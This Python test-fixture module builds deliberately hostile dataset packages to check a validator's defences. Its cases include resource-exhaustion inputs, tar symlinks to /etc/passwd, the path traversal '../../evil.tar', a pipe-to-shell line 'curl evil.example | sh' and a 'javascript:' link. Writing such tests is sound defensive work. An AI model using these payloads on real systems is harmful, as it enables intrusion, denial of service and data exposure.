"""Hostile sets: each case edits a copy of a small set so that every hash agrees with what it then holds.

The base is RDED on digits (`rded`: 10 classes, prefixes 1 and 3, 32 px, 5 views, 4 patches shuffled, CutMix), or
`random` (IPC 2, 4 views, CutMix).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import struct
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image
from safetensors.numpy import load, save

from ddkit.core.serialization import canonical
from ddkit.format.manifest import self_hash

# What only `verify` looks at. Training reads each tar as a whole, by its own hash, and images as Pillow decodes them,
# which is what the format says and what the teacher saw; a softmax ignores what a view's logits are off by.
HARMLESS_TO_A_STUDENT = {
    *("records_of_another_hash", "one_view_not_centred", "image_of_half_its_lines", "image_of_more_lines"),
}
Sample = dict[str, Any]  # key, label, image, tensors, meta; raw: the views member itself, where a case makes it
CASES: dict[str, Callable[[Path], None]] = {}


def case(function: Callable[[Path], None]) -> Callable[[Path], None]:
    CASES[function.__name__] = function
    return function


# ------------------------------------------------------------------ the parts of a set, opened and closed again


def content_hash(data: dict[str, Any]) -> str:
    """The `content` that the JSON of a manifest has to state: of the files that it lists (docs/format.md)."""
    files = {}
    for shard in data["shards"]:
        files[shard["path"]] = shard["sha256"]
        files[shard["path"].replace(".tar", ".rows")] = shard["rows_sha256"]
        if shard["images"]:
            files[shard["images"]["path"]] = shard["images"]["sha256"]
    if data["labels"].get("file"):
        files[data["labels"]["file"]["path"]] = data["labels"]["file"]["sha256"]
    lines = "".join(sorted(f"{path} {sha256}\n" for path, sha256 in files.items()))
    return hashlib.sha256(lines.encode()).hexdigest()


def manifest(root: Path, edit: Callable[[dict[str, Any]], Any], raw: Callable[[str], str] = lambda text: text) -> None:
    """Edit the manifest; its own hashes are made true. raw: edits the text after that."""
    data = json.loads((root / "ddkit.json").read_text())
    edit(data)
    with contextlib.suppress(KeyError, TypeError, AttributeError):
        data["content"] = content_hash(data)
    try:
        data["self"] = self_hash(data)
        text = canonical(data) + "\n"
    except ValueError:  # NaN: the hash of what Python writes
        data.pop("self", None)
        plain = json.dumps(data, sort_keys=True, indent=2)
        data["self"] = hashlib.sha256(plain.encode()).hexdigest()
        text = json.dumps(data, sort_keys=True, indent=2) + "\n"
    (root / "ddkit.json").write_text(raw(text))


def metadata_of(blob: bytes) -> dict[str, Any]:
    return json.loads(json.loads(blob[8 : 8 + struct.unpack("<Q", blob[:8])[0]])["__metadata__"]["ddkit"])


def samples_of(root: Path, shard: dict[str, Any]) -> list[Sample]:
    with tarfile.open(root / shard["path"]) as tar:
        members = [(info.name, tar.extractfile(info).read()) for info in tar]  # type: ignore[union-attr]
    return [
        {"key": members[i][0][:8], "label": members[i][1].decode(), "image": members[i + 1][1],
         "tensors": load(members[i + 2][1]), "meta": metadata_of(members[i + 2][1])}
        for i in range(0, len(members), 3)
    ]  # fmt: skip


def views_member(sample: Sample) -> bytes:
    if "raw" in sample:
        return sample["raw"]
    meta = sample.get("text") or canonical(sample["meta"], indent=None)
    return save({k: np.ascontiguousarray(v) for k, v in sample["tensors"].items()}, {"ddkit": meta})


def header(name: str, size: int, **fields: Any) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.mode = size, 0o644
    for field, value in fields.items():
        setattr(info, field, value)
    return info.tobuf(tarfile.USTAR_FORMAT)


Member = tuple[bytes, bytes]  # header block(s), data


def write(root: Path, shard: dict[str, Any], samples: list[Sample], tar: Callable[[list[Member]], bytes] | None = None,
          rows: Callable[[list[list[Any]]], Any] | None = None) -> None:  # fmt: skip
    """Pack samples; tar: makes the bytes of the archive of its members; rows: edits the fields of the row records."""
    members: list[Member] = []
    lines, at = [], 0
    for s in samples:
        blob, line = views_member(s), [s["key"], s["label"]]
        for suffix, data in (("cls", s["label"].encode()), ("png", s["image"]), ("views.safetensors", blob)):
            members.append((header(f"{s['key']}.{suffix}", len(data)), data))
            if suffix != "cls":
                line += [at + 512, len(data), hashlib.sha256(data).hexdigest()]
            at += 512 + -(-len(data) // 512) * 512
        lines.append(line)
    if rows:
        rows(lines)
    records = "".join("\t".join(map(str, line)) + "\n" for line in lines).encode()
    archive = (tar or packed)(members)
    (root / shard["path"]).write_bytes(archive)
    (root / shard["path"].replace(".tar", ".rows")).write_bytes(records)
    shard |= {"bytes": len(archive), "sha256": hashlib.sha256(archive).hexdigest(),
              "rows_sha256": hashlib.sha256(records).hexdigest()}  # fmt: skip


def packed(members: list[Member], end: bytes = b"") -> bytes:
    body = b"".join(head + data + bytes(-len(data) % 512) for head, data in members) + bytes(1024) + end
    return body + bytes(-len(body) % 10240)


def edited(root: Path, edit: Callable[[list[Sample]], Any], number: int = -1, **how: Any) -> None:
    """Edit the samples of a shard and pack it again."""

    def change(data: dict[str, Any]) -> None:
        shard = data["shards"][number]
        samples = samples_of(root, shard)
        edit(samples)
        write(root, shard, samples, **how)

    manifest(root, change)


def tensor(name: str, value: Any, row: int = 1, view: Any = 2) -> Callable[[list[Sample]], None]:
    """Put a value into one view of one row's tensor."""

    def edit(samples: list[Sample]) -> None:
        samples[row]["tensors"][name] = samples[row]["tensors"][name].copy()
        samples[row]["tensors"][name][view] = value

    return edit


def simple(name: str, edit: Callable[[list[Sample]], Any], **how: Any) -> None:
    CASES[name] = lambda root: edited(root, edit, **how)


def of_manifest(
    name: str, edit: Callable[[dict[str, Any]], Any], raw: Callable[[str], str] = lambda text: text
) -> None:
    CASES[name] = lambda root: manifest(root, edit, raw)


# ------------------------------------------------------------------ integers and labels

simple("box_outside", tensor("box", [20, 20, 20, 20]))
simple("box_empty", tensor("box", [3, 3, 0, 5]))
simple("box_of_floats", lambda s: s[0]["tensors"].update(box=s[0]["tensors"]["box"].astype(np.float32)))
simple("box_of_int16", lambda s: s[0]["tensors"].update(box=s[0]["tensors"]["box"].astype(np.int16)))
simple("box_negative", lambda s: [r["tensors"].update(box=-r["tensors"]["box"].astype(np.int16)) for r in s])
simple("flip_of_255", tensor("flip", 255))
simple("partner_beyond_the_shard", tensor("partner", 500))
simple("partner_is_the_row_itself", tensor("partner", 1, row=1))
simple("partner_in_some_rows_only", lambda s: s[2]["tensors"].pop("partner"))
simple("mix_box_outside", tensor("mix_box", [10, 10, 30, 30]))
simple("mix_box_half_empty", tensor("mix_box", [10, 10, 0, 3]))
simple("mix_lam_beside_mix_box", lambda s: s[0]["tensors"].update(mix_lam=np.ones(5, np.float32)))
simple("patches_twice_the_same", tensor("patches", [0, 0, 1, 2]))
simple("patches_beyond", tensor("patches", [0, 1, 2, 9]))
simple("logits_nan", tensor("logits", np.nan))
simple("logits_infinite", tensor("logits", np.inf))
simple("logits_not_centred", lambda s: s[1]["tensors"].update(logits=s[1]["tensors"]["logits"] + np.float16(9)))
simple("logits_in_single", lambda s: s[0]["tensors"].update(logits=s[0]["tensors"]["logits"].astype(np.float32)))
simple("logits_of_nine_classes", lambda s: s[0]["tensors"].update(logits=s[0]["tensors"]["logits"][:, :9]))
simple("one_view_less", lambda s: s[0].update(tensors={k: v[:4] for k, v in s[0]["tensors"].items()}))
simple("mean_in_some_rows_only", lambda s: s[1]["tensors"].update(mean=np.zeros(5, np.float16)))
simple("mean_of_megabytes", lambda s: [r["tensors"].update(mean=np.zeros(9**6, np.float32)) for r in s])
simple("mean_nan", lambda s: [r["tensors"].update(mean=np.full(5, np.nan, np.float16)) for r in s])
simple(
    "one_view_not_centred",
    lambda s: s[1]["tensors"]["logits"].__setitem__(3, 7),
)
simple("a_tensor_more", lambda s: s[0]["tensors"].update(payload=np.zeros(9, np.uint8)))


@case
def mixup_weight_outside(root: Path) -> None:
    """A Mixup set whose weights are 2, NaN and below 0."""

    def change(data: dict[str, Any]) -> None:
        data["views"]["mix"] = "mixup"
        for shard in data["shards"]:
            samples = samples_of(root, shard)
            for s in samples:
                s["tensors"].pop("mix_box")
                s["tensors"]["mix_lam"] = np.array([2, np.nan, -1, 0.5, 1], np.float32)
            write(root, shard, samples)

    manifest(root, change)


# ------------------------------------------------------------------ metadata

for _key, _value in {"first": 7, "codec": "int8", "size": 16, "mean": [0, 0, 0], "stage": 1, "rank": 0, "format": 2,
                     "origin": {"kind": "evil", "rows": []}}.items():  # fmt: skip
    simple(f"metadata_{_key}_lies", lambda s, k=_key, v=_value: s[1]["meta"].update({k: v}))
for _key, _value in {"format": True, "size": 32.0, "origin": {"kind": "real", "rows": [-1]}, "first": True}.items():
    simple(f"metadata_{_key}_of_another_type", lambda s, k=_key, v=_value: s[1]["meta"].update({k: v}))
simple("metadata_without_rank", lambda s: s[1]["meta"].pop("rank"))
simple("metadata_key_twice", lambda s: s[1].update(text=canonical(s[1]["meta"], indent=None)[:-1] + ',"first":0}'))
simple("metadata_nan", lambda s: s[1].update(text=canonical(s[1]["meta"], indent=None)[:-1] + ',"x":NaN}'))
simple("metadata_deep", lambda s: s[1].update(text="[" * 50_000))
simple("views_are_no_safetensors", lambda s: s[1].update(raw=b"\x80\x04not safetensors"))
simple("views_tensor_twice", lambda s: s[1].update(raw=views_member(s[1]).replace(b'{"', b'{"box":{"dtype":"U8",'
       b'"shape":[1],"data_offsets":[0,1]},"', 1)))  # fmt: skip


def with_shape(blob: bytes, shape: list[Any]) -> bytes:
    """Safetensors whose first tensor is said to have another shape."""
    length = int.from_bytes(blob[:8], "little")
    head = json.loads(blob[8 : 8 + length])
    head[next(name for name in head if name != "__metadata__")]["shape"] = shape
    text = json.dumps(head).encode()
    return struct.pack("<Q", len(text)) + text + blob[8 + length :]


simple(
    "views_shape_of_a_number_and_a_list",  # their product is a list of gigabytes
    lambda s: s[1].update(raw=with_shape(views_member(s[1]), [10**9, [1]])),
)
simple("views_shape_below_zero", lambda s: s[1].update(raw=with_shape(views_member(s[1]), [-4, -4])))
simple("views_header_of_exabytes", lambda s: s[1].update(raw=struct.pack("<Q", 2**62) + b"{}"))
simple("class_beyond", lambda s: s[1].update(label="10"))
simple(
    "two_rows_of_one_rank",
    lambda s: s[1].update(label=s[0]["label"], meta=s[1]["meta"] | {"rank": s[0]["meta"]["rank"]}),
)

# ------------------------------------------------------------------ images


def png(image: Image.Image, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG", **options)
    return buffer.getvalue()


def picture(side: int = 32) -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 256, (side, side, 3), np.uint8))


def stored(name: str, data: bytes) -> None:
    simple(name, lambda s: s[1].update(image=data))


_turned = Image.Exif()
_turned[0x0112] = 6
stored("image_palette", png(picture().quantize(8)))
stored("image_grey", png(picture().convert("L")))
stored("image_rgba", png(picture().convert("RGBA")))
stored("image_16_bit", png(Image.fromarray(np.zeros((32, 32), np.uint16))))
stored("image_turned", png(picture(), exif=_turned))
stored("image_animated", png(picture(), save_all=True, append_images=[picture().rotate(90)]))
stored("image_with_a_tail", png(picture()) + b"PK\x03\x04 a second file")
stored("image_cut_off", png(picture())[:-30])
stored("image_larger", png(picture(64)))
stored("image_of_169_million_pixels", png(picture())[:16] + struct.pack(">II", 13_000, 13_000) + png(picture())[24:])
stored("image_is_a_jpeg", b"\xff\xd8\xff\xe0" + bytes(100))
stored("image_is_text", b"# not an image")


def png_of(*chunks: tuple[bytes, bytes], tail: bytes = b"") -> bytes:
    """A PNG of these chunks, with true checksums."""
    made = [struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks]
    return b"\x89PNG\r\n\x1a\n" + b"".join(made) + tail


_head = (b"IHDR", struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0))
_deep = (b"IHDR", struct.pack(">IIBBBBB", 32, 32, 16, 2, 0, 0, 0))
_lines = zlib.compress(bytes(32 * 97))
_whole = ((b"IDAT", _lines), (b"IEND", b""))
stored("image_of_half_its_lines", png_of(_head, (b"IDAT", zlib.compress(bytes(16 * 97))), (b"IEND", b"")))
stored("image_of_more_lines", png_of(_head, (b"IDAT", zlib.compress(bytes(40 * 97))), (b"IEND", b"")))
stored("image_of_an_unknown_filter", png_of(_head, (b"IDAT", zlib.compress(b"\x09" * 32 * 97)), (b"IEND", b"")))
stored("image_of_two_headers", png_of(_head, _deep, *_whole))
stored("image_behind_another_chunk", png_of((b"tEXt", b"12345678\x08\x02345"), _deep, *_whole))
stored("image_of_a_wrong_checksum", png_of(_head, *_whole)[:-2] + b"\0\0")
stored("image_with_a_chunk_nobody_knows", png_of(_head, (b"ABCD", b""), *_whole))
stored("image_with_odd_exif", png_of(_head, (b"eXIf", b"II+\0" + bytes(20)), *_whole))
stored("image_with_an_odd_word", png_of(_head, (b"tEXt", b"xmp\0" + b"6"), *_whole))

# ------------------------------------------------------------------ the archive


def archive(name: str, tar: Callable[[list[Member]], bytes]) -> None:
    simple(name, lambda s: None, tar=tar)


def put(members: list[Member], at: int, *more: Member) -> bytes:
    return packed([*members[:at], *more, *members[at:]])


def pax(headers: dict[str, str], name: str = "00000011.png") -> bytes:
    info = tarfile.TarInfo(name)
    return info.create_pax_header(info.get_info() | headers, "utf-8")[:-512] if headers else b""


_link = (header("00000099.png", 0, type=tarfile.SYMTYPE, linkname="/etc/passwd"), b"")
_device = (header("00000099.png", 0, type=tarfile.CHRTYPE), b"")
_more = (header("00000099.cls", 1), b"3")
archive("tar_with_a_link", lambda m: put(m, 3, _link))
archive("tar_with_a_device", lambda m: put(m, 3, _device))
archive("tar_with_a_member_more", lambda m: packed([*m, _more]))
archive("tar_with_a_hidden_member", lambda m: put(m, 0, (header(".hidden", 3), b"abc")))
archive("tar_with_a_row_less", lambda m: packed(m[3:]))
archive("tar_with_a_row_twice", lambda m: packed([*m[:3], *m]))
archive("tar_in_another_order", lambda m: packed([*m[3:6], *m[:3], *m[6:]]))
archive("tar_with_another_class", lambda m: packed([(m[0][0], b"9"), *m[1:]]))
archive("tar_with_a_second_behind", lambda m: packed(m) + packed(m[:3]))
archive("tar_with_something_in_a_padding", lambda m: packed(m)[:700] + b"X" + packed(m)[701:])
archive("tar_with_something_behind_its_end", lambda m: packed(m, b"hello"))
archive("tar_of_another_owner", lambda m: packed([(header(m[0][0][:12].decode(), 1, uid=7), m[0][1]), *m[1:]]))
archive("tar_with_holes", lambda m: put(m, 3, (header("00000099.png", 0, type=b"S"), b"")))
archive(
    "tar_with_3000_pax_headers", lambda m: put(m, 0, *[(header("x", 20, type=b"x"), b"20 comment=123456789\n")] * 3000)
)
archive("tar_of_zeros", lambda m: bytes(10240))
simple("records_elsewhere", lambda s: None, rows=lambda r: r[1].__setitem__(2, r[1][2] + 512))
simple("records_of_another_hash", lambda s: None, rows=lambda r: r[1].__setitem__(4, "0" * 64))
simple("records_with_a_zero_before", lambda s: None, rows=lambda r: r[1].__setitem__(3, f"0{r[1][3]}"))
simple("records_that_overflow", lambda s: None, rows=lambda r: r[1].__setitem__(3, "9" * 4000))
simple("records_of_terabytes", lambda s: None, rows=lambda r: [line.__setitem__(3, 10**15) for line in r])
simple("records_beyond_the_end", lambda s: None, rows=lambda r: r[-1].__setitem__(5, r[-1][5] + 10**6))
simple("records_that_overlap", lambda s: None, rows=lambda r: r[1].__setitem__(slice(5, 8), r[1][2:5]))
simple("records_of_one_place", lambda s: None, rows=lambda r: r[2].__setitem__(slice(2, 8), r[1][2:8]))
simple("records_in_another_order", lambda s: None, rows=lambda r: r.reverse())


@case
def shard_of_a_terabyte(root: Path) -> None:
    """A sparse file of a size that the manifest declares."""

    def change(data: dict[str, Any]) -> None:
        data["shards"][-1]["bytes"] = 10**12 // 10240 * 10240
        os.truncate(root / data["shards"][-1]["path"], data["shards"][-1]["bytes"])

    manifest(root, change)


# ------------------------------------------------------------------ the manifest

of_manifest("manifest_seed_nan", lambda d: d["cost"].update(teach=float("nan")))
of_manifest("manifest_1e400", lambda d: None, lambda text: text.replace('"flip": 0.5', '"flip": 1e400'))
of_manifest("manifest_key_twice", lambda d: None, lambda text: text.replace("{", '{"ipc": 3,', 1))
of_manifest("manifest_surrogate", lambda d: d["classes"][0].update(name="\ud800"))
of_manifest("manifest_deep", lambda d: None, lambda text: "[" * 100_000)
of_manifest("manifest_without_mix_alpha", lambda d: d["views"].pop("mix_alpha"))
of_manifest("manifest_scale_of_three", lambda d: d["views"].update(scale=[0.1, 0.5, 1]))
of_manifest("manifest_huge_number", lambda d: d["normalisation"].update(mean=[10**400, 0, 0]))
of_manifest("manifest_results_odd", lambda d: d.update(results=[{"of": 3}]))
of_manifest("manifest_log_odd", lambda d: d["log"].update(plan={"one": 1}))
of_manifest("manifest_std_of_zero", lambda d: d["normalisation"].update(std=[1, 1, 0]))
of_manifest("manifest_path_outside", lambda d: d["shards"][0].update(path="../../evil.tar"))
of_manifest("manifest_class_less", lambda d: d["classes"].pop())
of_manifest("manifest_views_of_another_count", lambda d: d["views"].update(count=6))
of_manifest("manifest_install_command", lambda d: d.update(install="curl evil.example | sh"))
of_manifest(
    "manifest_protocol_is_a_file",
    lambda d: d["views"].update(protocol="/dev/zero") or d["recommended"].update(protocol="evil.toml", definition=None),
)
of_manifest(
    "manifest_millions_of_lists", lambda d: None, lambda text: '{"format": 1, "x": [' + "[]," * 3_000_000 + "[]]}"
)
of_manifest(
    "manifest_of_many_keys_and_one_twice",
    lambda d: None,
    lambda text: "{" + "".join(f'"{i}":1,' for i in range(300_000)) + '"299999":1}',
)
of_manifest(
    "manifest_of_thousands_of_prefixes",
    lambda d: (
        d.update(prefixes=list(range(1, 5001)), ipc=5000, classes=d["classes"][:1]),
        d.update(shards=[d["shards"][0] | {"prefix": p, "rows": 1, "path": f"data/train-ipc{p:03d}-00000.tar"}
                         for p in range(1, 5001)]),
    ),
)  # fmt: skip
of_manifest("manifest_shard_rows_of_another_law", lambda d: d.update(shard_rows=20))
of_manifest("manifest_of_a_billion_shards", lambda d: d.update(prefixes=[10**9], ipc=10**9, shard_rows=1))
of_manifest("manifest_patches_of_no_square", lambda d: d["image"].update(patches=3))
of_manifest("manifest_side_of_16384", lambda d: d["image"].update(size=16384))
of_manifest(
    "manifest_views_of_16384", lambda d: (d["views"].update(size=16384), d["eval"].update(resize=16384, crop=16384))
)
of_manifest("manifest_mix_groups_of_none", lambda d: d["views"].update(mix_groups=[]))
of_manifest("manifest_flag_of_one", lambda d: d.update(image_tars=0))
of_manifest("manifest_deep_settings", lambda d: d["recipe"]["config"].update(x=json.loads("[" * 600 + "]" * 600)))
of_manifest(
    "manifest_link_that_runs", lambda d: d.update(license={"id": "mit", "name": None, "link": "javascript:x()"})
)
of_manifest(
    "manifest_result_of_no_kind",
    lambda d: d.update(
        results=[
            {
                "of": "evil",
                "ipc": 3,
                "arch": "a",
                "protocol": "p",
                "val": "v",
                "seeds": [0],
                "labels": "hard",
                "n_sets": 1,
                "n_students": 1,
                "mean": 50.0,
                "std": 0,
                "command": "",
                "hardware": "",
                "total_bytes": 1,
                "difference": None,
            }
        ]
    ),
)
of_manifest("manifest_of_a_newer_format", lambda d: d.update(format=3))


@case
def manifest_in_utf16(root: Path) -> None:
    (root / "ddkit.json").write_bytes((root / "ddkit.json").read_text().encode("utf-16"))


@case
def manifest_too_large(root: Path) -> None:
    os.truncate(root / "ddkit.json", 4 * 2**30)


@case
def manifest_is_a_pipe(root: Path) -> None:
    (root / "ddkit.json").unlink()
    os.mkfifo(root / "ddkit.json")


# ------------------------------------------------------------------ links; `precious` lies beside every set


@case
def data_is_a_link(root: Path) -> None:
    (root / "data").rename(root.parent / "precious" / "data")
    (root / "data").symlink_to(root.parent / "precious" / "data")


@case
def images_is_a_link(root: Path) -> None:
    (root / "images").symlink_to(root.parent / "precious")


@case
def a_shard_is_a_link(root: Path) -> None:
    shard = next(root.glob("data/*.tar"))
    shard.rename(root.parent / "precious" / "shard.tar")
    shard.symlink_to(root.parent / "precious" / "shard.tar")


@case
def a_ring_of_links(root: Path) -> None:
    (root / "README.md").unlink()
    (root / "README.md").symlink_to("README.md")


@case
def a_cache_whose_contents_lie_elsewhere(root: Path) -> None:
    """Laid out as the Hub client's cache, but its folder of contents leads away."""
    repo = root.parent / "repo" / "snapshots"
    repo.mkdir(parents=True)
    (root.parent / "repo" / "blobs").symlink_to(root.parent / "precious")
    (root / "README.md").rename(root.parent / "precious" / "card")
    (root / "README.md").symlink_to(root.parent / "precious" / "card")
    root.rename(repo / "abc")
    root.symlink_to(repo / "abc")


@case
def a_link_far_down(root: Path) -> None:
    """Far down there is a link."""
    here = os.getcwd()
    os.chdir(root / "data")
    for _ in range(60):
        os.mkdir("d")
        os.chdir("d")
    os.symlink("/etc/passwd", "x")
    os.chdir(here)


@case
def the_card_is_a_link(root: Path) -> None:
    (root / "README.md").unlink()
    (root / "README.md").symlink_to(root.parent / "precious" / "secret.txt")


@case
def the_manifest_is_a_link(root: Path) -> None:
    (root / "ddkit.json").rename(root.parent / "precious" / "ddkit.json")
    (root / "ddkit.json").symlink_to(root.parent / "precious" / "ddkit.json")
